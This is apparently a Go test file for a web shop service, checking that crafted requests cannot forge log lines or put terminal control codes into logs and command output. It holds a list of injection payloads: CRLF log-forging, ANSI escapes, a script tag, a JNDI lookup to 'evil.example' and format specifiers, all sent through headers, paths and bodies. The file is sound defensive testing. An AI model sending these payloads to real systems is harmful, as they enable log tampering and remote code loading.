package main

import (
	"bytes"
	"encoding/json"
	"net/http"
	"net/url"
	"strconv"
	"strings"
	"testing"
	"unicode/utf8"
)

// forgeries are texts that would make another line of a log, colour a terminal,
// hide what follows, or run where a log is looked at in a browser.
func forgeries() []string {
	return []string{
		"a\r\n{\"level\":\"INFO\",\"msg\":\"request\",\"status\":200}", "a\nb", "a\rb", "a\x1b[2J\x1b[31mred", "a\x00b", "a\x7fb", "a\x08\x08b", "a\u0085b", "a\u009b31mb", "a\u202etxt.exe", "a\u2028b\u2029c",
		"a\u200bb\u200d", "a\ufeffb", "a\u2066b\u2069", "\"}\n{\"msg\":\"request\"", `a" level=ERROR msg="b`, `\n\u001b[31m`, `\`, "a\xff\xfe", "a\xc0\xafb", "\U000e0041", "</pre><script>alert(1)</script>", "${jndi:ldap://evil.example/a}", "%s%n%x",
	}
}

// wantLines reads what was logged as one JSON document a line, of which no text
// does anything but print, and returns those with the message.
func wantLines(t *testing.T, log, message string) (found []map[string]any) {
	t.Helper()
	for line := range strings.Lines(log) {
		if i := strings.IndexFunc(strings.TrimSuffix(line, "\n"), harmful); i >= 0 {
			t.Errorf("byte %d of %q does more than print", i, line)
		}
		var entry map[string]any
		decoder := json.NewDecoder(strings.NewReader(line))
		if err := decoder.Decode(&entry); err != nil || decoder.More() {
			t.Errorf("%q is not one document: %v", line, err)
			continue
		}
		for name, value := range entry {
			if text, ok := value.(string); ok && name != "stack" && strings.ContainsFunc(text, harmful) {
				t.Errorf("%s is %q once it is decoded", name, text)
			}
		}
		if entry["msg"] == message {
			found = append(found, entry)
		}
	}
	return found
}

func harmful(r rune) bool { return !strconv.IsPrint(r) || r == utf8.RuneError }

// Whatever is in the path, the query, a header, a name or a body: a request is one
// line of the log, and it is as many lines as there were requests.
func TestNoRequestForgesALineOfTheLog(t *testing.T) {
	s := serveShop(t, plainHTTP[:]...)
	c, sent := s.client(t), 0
	for i, text := range forgeries() {
		escaped := url.PathEscape(text)
		for _, raw := range []string{ // As it is, where HTTP/1 lets it pass, and refused otherwise.
			getItems("User-Agent: " + text + "\r\n"), getItems("X-Request-Id: " + text + "\r\n"), getItems("X-Forwarded-For: " + text + "\r\n"),
			strings.Replace(getItems(""), "/items/", "/items/"+text, 1), strings.Replace(getItems(""), "GET", "GET"+text, 1), strings.Replace(getItems(""), "localhost", text, 1),
			strings.Replace(getItems(""), "/items/", "/"+escaped, 1), strings.Replace(getItems(""), "/items/", "/items/1?"+escaped, 1),
			getItems("Authorization: Bearer " + text + "\r\n"), getItems("Cookie: __Host-session=" + text + "\r\n"), getItems("Referer: " + text + "\r\n"),
		} {
			for _, got := range s.send(t, raw) {
				if got.status >= 500 && got.status != http.StatusNotImplemented && got.status != http.StatusHTTPVersionNotSupported {
					t.Errorf("%q: %d", raw, got.status)
				}
				sent++
			}
		}
		if i%5 == 0 { // Each is a password hash.
			form := url.Values{"username": {text}, "password": {"x"}}.Encode()
			wantProblem(t, text, c.post("/token", form, "Content-Type", "application/x-www-form-urlencoded"), 400, 401, 422, 429)
			sent++
		}
		for _, got := range []reply{
			c.post("/sign-up", `{"name":`+quote(text)+`,"password":"correct horse"}`),
			c.post("/test/items/", `{`+quote(text)+`:1}`), c.post("/test/items/", "{"+text, "X-Up", "1"), c.get("/" + escaped), c.post("/items/1", "{}", "X-Y", "z"),
		} {
			if got.status < 400 || got.status >= 500 {
				t.Errorf("%q: %d %s, want it refused", text, got.status, got.body)
			}
			sent++
		}
	}
	eventually(func() bool { return strings.Count(s.log.String(), `"msg":"request"`) >= sent }) // A line is written after its answer.
	if lines := wantLines(t, s.log.String(), "request"); len(lines) != sent {
		t.Errorf("%d lines for %d requests", len(lines), sent)
	}
	// Who has tried to log in is told on a terminal, too.
	app := newApp(unlimited())
	var out, complaints bytes.Buffer
	if exit := app.Run(t.Context(), []string{"shop", "events", "list", "--data", s.dir, "--db", databaseOf(t, s.dir).Reveal()}, &out, &complaints); exit != 0 || out.Len() == 0 {
		t.Errorf("events list ends with %d: %s %s", exit, out.String(), complaints.String())
	}
	if i := strings.IndexFunc(out.String(), func(r rune) bool { return harmful(r) && r != '\n' && r != '\t' }); i >= 0 {
		t.Errorf("byte %d of what it prints does more than print: %q", i, out.String())
	}
}
